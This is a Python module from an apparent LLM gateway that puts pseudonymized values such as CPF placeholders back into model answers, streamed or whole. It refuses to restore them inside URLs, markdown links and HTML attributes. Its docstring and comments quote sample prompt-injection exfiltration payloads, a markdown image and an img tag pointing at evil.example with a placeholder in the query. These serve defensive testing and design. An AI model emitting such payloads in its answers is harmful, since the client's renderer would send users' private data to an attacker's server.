"""Put the caller's values back into the answer: whole texts and streams, split-safe (SPEC section 8).

What is restored: this request's placeholders (``[CPF_1]``) and ENC tokens, also when the model
changed their case or spacing (``[cpf_1]``, ``[ CPF_1 ]``, ``[CPF 1]``, ``[CPF-1]``, ``[CPF1]``).

What is not, by decision:
- A placeholder without its brackets (``CPF_1``): models rarely drop them, and restoring bare words
  would both risk turning ordinary text into a value and force the stream to hold back every word
  that starts like a label. The caller sees the placeholder — never a wrong value.
- A placeholder inside a URL: a bare ``scheme://`` or ``www.`` word, a markdown link or image target
  ``](...)``, an HTML ``src=``/``href=`` attribute. That is how a prompt-injected answer exfiltrates
  data (``![](https://evil.example/?q=[CPF_1])`` fetched by the client's renderer), so there the
  placeholder stays unless the caller says policy allows it (``allow_urls=True``).
- Tool-call arguments: the caller passes them through unrestored, or calls ``restore_arguments``
  with ``allowed=True`` when policy allows it.

A ``StreamRestorer`` holds back only a ``[`` and what follows it while that could still grow into one
of this request's placeholders (at most one placeholder's length plus a little spacing drift); all
other text is released at once, so the first token is not delayed.
"""

from __future__ import annotations

import re
from functools import lru_cache

import orjson

from gateway.transform.pseudonymize import PLACEHOLDER_INNER, PlaceholderMap

SLACK = 8
"""Extra characters a partial placeholder may hold for spacing drift (``[ CPF _ 1 ]``)."""
WORD_CAP = 4096
"""A word (text between whitespace) longer than this is treated as a URL: no restore in it."""
FOLD_AT = 16384
"""Released characters noted before the URL context is brought up to date (bounds its memory)."""

_INNER = PLACEHOLDER_INNER  # (one grammar with PlaceholderMap.reserve)


@lru_cache(maxsize=64)
def _full_for(limit: int) -> re.Pattern[str]:
    """A complete ``[...]`` of at most ``limit`` inner characters."""
    return re.compile(r"\[(" + _INNER + r"{1,%d})\]" % limit)


_FULL = _full_for(SLACK)
_PARTIAL = re.compile(_INNER + r"*\Z")
_URL_WORD = re.compile(r"://|^[(<\"'*_\[]*(?:www\.|//)|(?:src|href|srcset|action)\s*=|mailto:", re.I)
# What opens and closes the URL contexts that span words: a markdown link or image target "](" (to its
# closing parenthesis: balanced pairs and backslash escapes inside do not close it, nor does anything
# inside an <...> destination; one line break may come before the destination), and the quoted value
# of a src/href/srcset/action attribute (to its closing quote). Judging the target by the last "(" and
# ")" of the line restored into "![x](//evil.example/(a)[CPF_1])", and whitespace ended an attribute
# value, so '<img src="https://evil.example/?a= [CPF_1]">' was restored: both fetch the value.
_CTX = re.compile(r"""\n[ \t]*\n|\n|\\.|\]\(|[()<>]|=\s*["']|["']""")
_OPEN = re.compile(r"""\]\(|=\s*["']""")
"""The part of ``_CTX`` that matters outside both contexts (most text: searched for at C speed)."""
_ATTR = re.compile(r"(?<![A-Za-z0-9_])(?:src|href|srcset|action)\s*\Z", re.I)
"""Before the ``=`` of an attribute whose value is a URL."""
_CTX_TAIL = 16
"""Characters of the text folded before kept to see an opening split across pieces (``]`` + ``(``)."""


def _last_space(s: str) -> int:
    """Index of the last space, tab or line break in ``s``, or -1. Other Unicode spaces count as part
    of a word: a longer word is more likely judged a URL, which only means less is restored."""
    return max(s.rfind(" "), s.rfind("\n"), s.rfind("\t"), s.rfind("\r"))


class StreamRestorer:
    """Incremental restore of one stream channel (e.g. one choice's text deltas).

    ``feed(piece)`` returns what can be shown now; ``flush()`` at the end of the stream returns what
    was held back, as it is. The outputs concatenated equal ``restore_text`` of the pieces concatenated,
    however the text was split.
    """

    __slots__ = ("pmap", "allow_urls", "json_string", "_held", "_limit", "_full", "_md", "_angle", "_fresh",
                 "_attr", "_word", "_tail",
                 "_pending", "_pending_len", "held_max")

    def __init__(self, pmap: PlaceholderMap, *, allow_urls: bool = False, json_string: bool = False):
        self.pmap = pmap
        self.allow_urls = allow_urls
        """Restore inside URLs too (only where the caller's policy allows it)."""
        self.json_string = json_string
        """The text is the inside of a JSON string (tool arguments): restored values are escaped."""
        self._held = ""
        self._limit = 0
        self._full = _FULL
        self._md = -1      # inside a markdown link target "](": its open parentheses; -1: outside one
        self._angle = False  # in that target, inside an <...> destination
        self._fresh = False  # in that target, nothing but whitespace yet (a line break may still come)
        self._attr = ""    # inside a quoted src/href/srcset/action attribute value: its quote
        self._word = ""    # released text since the last whitespace (capped at WORD_CAP + a piece)
        self._tail = ""    # the end of the text folded before (see _CTX_TAIL)
        self._pending: list[str] = []  # released text not yet folded into the three above
        self._pending_len = 0
        self.held_max = 0
        """The most characters ever held back at once (for benchmarks and tests)."""

    def feed(self, text: str) -> str:
        """What can be released now of the held text plus ``text``, restored."""
        if self._limit != self.pmap.max_len + SLACK:  # the map grew (or this is the first piece)
            self._limit = self.pmap.max_len + SLACK
            self._full = _full_for(self._limit)
        if self._held:
            text = self._held + text
            self._held = ""
        elif "[" not in text or not self.pmap:
            if text:
                self._seen(text)
            return text
        out: list[str] = []
        seen = 0  # out[:seen] is already accounted in the URL context
        pos, n = 0, len(text)
        while pos < n:
            i = text.find("[", pos)
            if i < 0:
                out.append(text[pos:])
                break
            if i > pos:
                out.append(text[pos:i])
            m = self._full.match(text, i)
            if m is not None:
                value = self.pmap.original(m.group(1))
                if value is not None and not self.allow_urls:
                    self._pending.extend(out[seen:])
                    seen = len(out)
                    if self._in_url():
                        value = None
                if value is not None and self.json_string:
                    value = orjson.dumps(value).decode()[1:-1]
                out.append(m.group(0) if value is None else value)
                pos = m.end()
                continue
            # judged in place, and the rest copied only when it is short: slicing it for every "[" made a
            # whole answer full of "[(" or "[[" (a code block's nested lists) quadratic in its length
            if n - i - 1 < self._limit and _PARTIAL.match(text, i + 1) and self.pmap.could_start(text[i + 1:], SLACK):
                self._held = text[i:]  # could still become a placeholder: wait for the next piece
                if len(self._held) > self.held_max:
                    self.held_max = len(self._held)
                break
            out.append("[")
            pos = i + 1
        released = "".join(out)
        if seen:
            released_new = "".join(out[seen:])
            if released_new:
                self._seen(released_new)
        elif released:
            self._seen(released)
        return released

    def flush(self) -> str:
        """What was held back, released as it is (the stream ended before it became a placeholder)."""
        held, self._held = self._held, ""
        if held:
            self._seen(held)
        return held

    def _seen(self, s: str) -> None:
        """Note released text ``s``; the URL context is computed from it only when a placeholder needs it."""
        self._pending.append(s)
        self._pending_len += len(s)
        if self._pending_len > FOLD_AT:
            self._fold()

    def _fold(self) -> None:
        """Bring the URL context up to date with the released text noted since the last fold."""
        s = "".join(self._pending)
        self._pending.clear()
        self._pending_len = 0
        if not s:
            return
        p = self._tail + s
        skip = last = len(self._tail)
        pos = 0
        while True:
            m = (_CTX if self._md >= 0 or self._attr else _OPEN).search(p, pos)
            if m is None:
                break
            pos = m.end()
            if pos <= skip:
                continue  # (taken when it was folded)
            if self._fresh and not p[last:m.start()].isspace() and last < m.start():
                self._fresh = False
            last = m.end()
            t = m.group()
            c = t[0]
            if c == "\n":
                if len(t) > 1:  # a blank line ends paragraphs: links and HTML attributes alike
                    self._md, self._attr = -1, ""
                elif self._md >= 0 and not self._fresh:
                    self._md = -1  # a destination holds no line break
                continue
            fresh, self._fresh = self._fresh, False
            if self._attr:
                if t[-1] == self._attr:  # (HTML has no backslash escapes: \" closes too)
                    self._attr = ""
            elif c == "=":
                if _ATTR.search(p, max(0, m.start() - 32), m.start()):
                    self._attr = t[-1]
            elif self._md < 0:
                if t == "](":
                    self._md, self._angle, self._fresh = 0, False, True
            elif self._angle:
                if c == ">":
                    self._angle = False  # (what follows, a title, ends at the closing parenthesis)
            elif c == "<":
                self._angle = fresh
            elif c == "(" or t == "](":
                self._md += 1
            elif c == ")":
                self._md -= 1  # (-1 once the target's own parenthesis closed)
        if self._fresh and last < len(p) and not p[last:].isspace():
            self._fresh = False
        self._tail = p[-_CTX_TAIL:]
        ws = _last_space(s)
        if ws >= 0:
            self._word = s[ws + 1:][:WORD_CAP + 1]
        elif len(self._word) <= WORD_CAP:
            self._word += s[:WORD_CAP + 1]

    def _in_url(self) -> bool:
        self._fold()
        return self._md >= 0 or self._attr != "" or len(self._word) > WORD_CAP or _URL_WORD.search(self._word) is not None


def restore_text(text: str, pmap: PlaceholderMap | None, *, allow_urls: bool = False) -> str:
    """``text`` (a whole answer text, e.g. a JSON body's message content) with this request's
    placeholders and ENC tokens restored, except inside URLs unless ``allow_urls``."""
    if pmap is None or not pmap or "[" not in text:
        return text
    r = StreamRestorer(pmap, allow_urls=allow_urls)
    return r.feed(text) + r.flush()


def restore_arguments(arguments: str, pmap: PlaceholderMap | None, *, allowed: bool = False) -> str:
    """Tool-call arguments (JSON text): unchanged unless the caller's policy ``allowed`` restoring
    there; then restored everywhere, URLs included, with values escaped for a JSON string."""
    if not allowed or pmap is None or not pmap or "[" not in arguments:
        return arguments
    r = StreamRestorer(pmap, allow_urls=True, json_string=True)
    return r.feed(arguments) + r.flush()
